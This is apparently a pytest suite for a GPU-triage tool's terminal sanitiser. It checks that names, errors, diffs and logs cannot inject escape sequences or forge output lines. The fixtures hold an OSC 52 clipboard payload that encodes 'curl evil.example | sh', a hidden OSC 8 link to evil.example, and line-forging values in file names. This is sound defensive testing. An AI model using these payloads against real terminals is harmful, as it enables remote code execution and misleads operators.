"""Every command prints bundle and file-system text through the one sanitiser
(reports.terminal): no escape sequence, control character or bidi override reaches the
terminal, and a value never starts a line of its own (a forged row, finding or section).
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hostile_kit import Member, analyze_path, tar_bytes, valid_files, valid_members, write
from kit.bundles import write_dir
from kit.cli import invoke as _run

from analyzers.engine.diff import compare
from analyzers.facts import Facts
from analyzers.results.diff_models import DiffReport
from analyzers.results.models import Evidence, Finding, RuleResult, RuleStatus, Severity
from bundle import open_bundle
from bundle.archive import NOT_AN_ARCHIVE
from reports import terminal
from reports.diff import render as render_diff

# A clipboard write (OSC 52), a hidden link (OSC 8), a cleared screen and a colour (CSI),
# the 8-bit CSI, a bidi override, NUL, and a newline that starts a forged line.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OSC8 = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
ESCAPES = OSC52 + OSC8 + "\x1b[2J\x1b[H\x1b[31m\x9b1m\u202e\x00"
# What must never reach the terminal: C0/C1 controls (newline aside), bidi overrides.
ACTIVE = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _active(text: str) -> list[str]:
    return sorted({f"U+{ord(c):04X}" for c in ACTIVE.findall(text)})


@pytest.fixture(autouse=True)
def _in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


# -- the sanitiser itself ----------------------------------------------------------------


def test_line_removes_sequences_whole_and_folds_every_break() -> None:
    assert terminal.line("a" + OSC52 + "b" + OSC8 + "\x1b[2Jc\x9b31md") == "abclickcd"
    assert terminal.line("one\ntwo\r\nthree\rfour\x85five\u2028six\tseven\v\f") == (
        "one two three four five six seven")
    assert terminal.line("\u202eevil\u2066x\u2069 \u200f\x00\x07\x7f") == "evilx"
    assert terminal.line("name\udcff") == "name?"
    assert terminal.line("x" * 50, 10) == "x" * 10
    assert terminal.line("unterminated \x1b]52;c;payload with no end") == "unterminated"


def test_lines_keeps_its_own_newlines_and_indentation_only() -> None:
    assert terminal.lines("Title\n\n  indented \x1b[31mred\r overwrite\n") == (
        "Title\n\n  indented red  overwrite\n")


def test_name_shows_odd_characters_as_question_marks_like_ls() -> None:
    assert terminal.name("x\x1b[31m.tgz") == "x?[31m.tgz"
    assert terminal.name("a\nb\u202ec\udcff") == "a?b?c?"
    assert terminal.name("plain-name_1.tgz") == "plain-name_1.tgz"


# -- verify --------------------------------------------------------------------------------


def test_verify_prints_manifest_errors_and_names_inert_one_line_each(tmp_path: Path) -> None:
    no_slash = OSC52 + "\x1b]8;;evil\x1b\\click\x1b]8;;\x1b\\\x1b[2J\x1b[31m\x9b1m\u202e\x00"
    evil_node = "gpu-z" + no_slash + "\nok        forged-path"
    error = "forbidden" + ESCAPES + "\n0 spec paths: all fine; 0 reader problem(s)"
    path = write_dir(tmp_path / "b", valid_files(), failed=[
        {"path": "nodes/gpu-a/host/unattended-upgrades.txt", "error": error},
        {"path": f"nodes/{evil_node}/dmesg.txt", "error": error},
    ])
    code, out, err = _run(["verify", "--all", str(path)])
    assert code == 1
    assert _active(out + err) == []
    lines = out.splitlines()
    shown = "forbiddenclick 0 spec paths: all fine; 0 reader problem(s)"
    assert f"failed    nodes/gpu-a/host/unattended-upgrades.txt  {shown}" in lines
    assert f"failed    nodes/gpu-zclick ok forged-path/dmesg.txt  {shown}" in lines
    assert "missing   nodes/gpu-zclick ok forged-path/nvidia-smi.xml  neither in the bundle " \
           "nor in the manifest" in lines
    assert not any(line.startswith(("ok        forged", "0 spec paths")) for line in lines)
    assert lines[-1] == (f"{len(lines) - 1} spec paths: 2 failed, 13 missing, 26 ok; "
                         "0 reader problem(s)")  # every other line is one spec path
    assert "evil" not in out and "Y3VybCBl" not in out


def test_verify_names_refused_members_inert(tmp_path: Path) -> None:
    members = [Member(f"gpu-triage-test/{name}", data) for name, data in valid_members().items()]
    members.append(Member("gpu-triage-test/../x" + OSC52 + "\x1b[2J\nmissing  forged", b"x"))
    path = write(tmp_path / "b.tar", tar_bytes(members))
    code, out, err = _run(["verify", str(path)])
    assert code == 1
    assert _active(out + err) == []
    assert not any(line.startswith("missing  forged") for line in out.splitlines())
    assert [line for line in out.splitlines() if line.startswith("refused")] == [
        "refused   ../x\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J\\x0amissing "
        "forged: unsafe name (absolute, '..', control characters or not UTF-8)"]


# -- analyze: the bundle's own name --------------------------------------------------------


def test_analyze_shows_a_bundle_named_with_escapes_as_a_safe_name(tmp_path: Path) -> None:
    evil = "b" + OSC52 + "\x1b[2J\nHTML report: forged"
    path = write_dir(tmp_path / evil, valid_files())
    code, out, err = _run(["analyze", str(path)])
    assert code == 1
    assert _active(out + err) == []
    # The report file's name is made safe (controls become _), and shown as it is.
    name = "b_]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==__[2J_HTML report: forged.report.html"
    assert err.splitlines()[-1] == f"HTML report: {name}"
    assert (tmp_path / name).is_file()
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".html")] == [name]


def test_analyze_unreadable_bundle_names_the_file_ls_style(tmp_path: Path) -> None:
    path = write(tmp_path / ("x" + "\x1b]52;c;ZXZpbA==\x07" + "\n.tgz"), b"not an archive" * 50)
    code, out, err = _run(["analyze", str(path), "-f", "json"])
    assert (code, out) == (3, "")
    assert err.splitlines() == [
        f"Error: cannot read bundle {tmp_path}/x?]52;c;ZXZpbA==??.tgz: {NOT_AN_ARCHIVE} "
        "(invalid header)"]


def test_batch_summary_shows_names_ls_style(tmp_path: Path) -> None:
    first = write_dir(tmp_path / ("one\x1b[2J\nCRITICAL forged"), valid_files())
    second = write_dir(tmp_path / "two", valid_files())
    code, out, err = _run(["analyze", str(first), str(second), "--out-dir", "o",
                           "-f", "json", "--jobs", "1"])
    assert code == 1
    assert _active(out + err) == []
    lines = out.splitlines()
    assert lines[1].startswith(f"{tmp_path}/one?[2J?CRITICAL forged  gpu-triage v1")
    assert not any(line.startswith("CRITICAL forged") for line in (out + err).splitlines())


# -- diff: one field on one line -----------------------------------------------------------

FORGE = "Xid errors\n\nRESOLVED\n  CRITICAL CFG004:cluster-policy  forged fix" + ESCAPES


def _forging_diff() -> DiffReport:
    evil = Finding(id="DRV003:gpu-a\nRESOLVED", rule_id="DRV003", title=FORGE,
                   severity=Severity.HIGH, summary="On gpu-a\n\nNEW\n  forged" + ESCAPES,
                   evidence=[Evidence(path="nodes/gpu-a/dmesg.txt", line=1, excerpt="Xid")])
    with open_bundle(Path(__file__).resolve().parents[2] / "samples"
                     / "incident-toolkit-disabled") as opened:
        from analyzers.engine import analyze

        base = analyze(opened, [])
        facts = Facts(opened)
    before = base.model_copy(update={"findings": [], "rules": [
        RuleResult(rule_id="DRV003", status=RuleStatus.PASSED)]})
    after = base.model_copy(update={"findings": [evil], "rules": [
        RuleResult(rule_id="DRV003", status=RuleStatus.FAILED)]})
    return compare(before, after, facts, facts)


def test_diff_text_keeps_each_field_on_its_line() -> None:
    diff = _forging_diff()
    assert [f.title for f in diff.new] == [FORGE]
    text = render_diff(diff, "text")
    assert _active(text) == []
    lines = text.splitlines()
    assert "RESOLVED" not in lines and lines.count("NEW") == 1
    assert not any(line.lstrip().startswith(("CRITICAL CFG004", "forged")) for line in lines)
    row = lines.index("NEW") + 1
    assert lines[row] == ("  HIGH     DRV003:gpu-a RESOLVED  Xid errors RESOLVED CRITICAL "
                          "CFG004:cluster-policy forged fixclick")
    assert lines[row + 1] == " " * 11 + "On gpu-a NEW forgedclick"


def test_diff_markdown_keeps_each_field_in_its_cell() -> None:
    markdown = render_diff(_forging_diff(), "md")
    assert _active(markdown) == []
    lines = markdown.splitlines()
    assert not any(line.startswith(("#### Resolved", "RESOLVED", "  CRITICAL")) for line in lines)
    rows = [line for line in lines if "DRV003" in line]
    assert rows == ["| high | `DRV003` | DRV003:gpu-a RESOLVED | Xid errors RESOLVED CRITICAL "
                    "CFG004:cluster-policy forged fixclick | On gpu-a NEW forgedclick |"]


def test_diff_command_output_has_no_active_characters(tmp_path: Path) -> None:
    files = valid_files()
    files["cluster/nodes.json"]["items"][0]["metadata"]["name"] = (
        "gpu-a" + ESCAPES + "\n\nRESOLVED\n  CRITICAL forged")
    before = write_dir(tmp_path / "before", valid_files())
    after = write_dir(tmp_path / "after", files)
    code, out, err = _run(["diff", str(before), str(after)])
    assert code == 1
    assert _active(out + err) == []
    lines = out.splitlines()
    assert lines.count("RESOLVED") == 1 and lines.count("NEW") == 1  # the real ones only
    assert not any(line.lstrip().startswith("CRITICAL forged") for line in lines)
    assert lines[lines.index("NEW") + 1] == (
        "  HIGH     OP003:gpu-aclick RESOLVED CRITICAL forged  NFD did not label a GPU node")
    assert lines[lines.index("RESOLVED") + 1] == (
        "  HIGH     OP003:gpu-a  NFD did not label a GPU node")
    assert analyze_path(after).findings  # the hostile side still analyses


def test_verbose_log_records_are_inert_line_by_line() -> None:
    import logging

    from gpu_triage.cli import _SafeFormatter

    record = logging.LogRecord("gpu_triage", logging.WARNING, __file__, 1,
                               "node %s", ("gpu-a" + OSC52 + "\rWARNING forged",), None)
    assert _SafeFormatter("%(levelname)s %(message)s").format(record) == (
        "WARNING node gpu-a WARNING forged")
